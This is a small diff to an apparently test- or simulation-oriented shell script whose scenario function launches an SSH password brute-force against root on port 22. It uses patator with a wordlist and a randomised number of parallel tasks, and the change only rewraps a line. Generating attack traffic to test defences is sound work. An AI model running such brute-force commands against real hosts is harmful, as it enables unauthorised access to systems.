@@ -16,6 +16,7 @@ scenario() {
 	_tasks=$(choose 1 3 8)
 	setting options "-t $_tasks, a to $_to"
 	# It takes the end of its input for a key and prints without end.
-	sleep 60 | attack a "$_to" tcp 22 -- timeout 50 patator ssh_login "host=$(addr "$_to")" user=root \
+	sleep 60 | attack a "$_to" tcp 22 \
+		-- timeout 50 patator ssh_login "host=$(addr "$_to")" user=root \
 		password=FILE0 "0=$work/words" -t "$_tasks" -x ignore:mesg='Authentication failed.'
 }
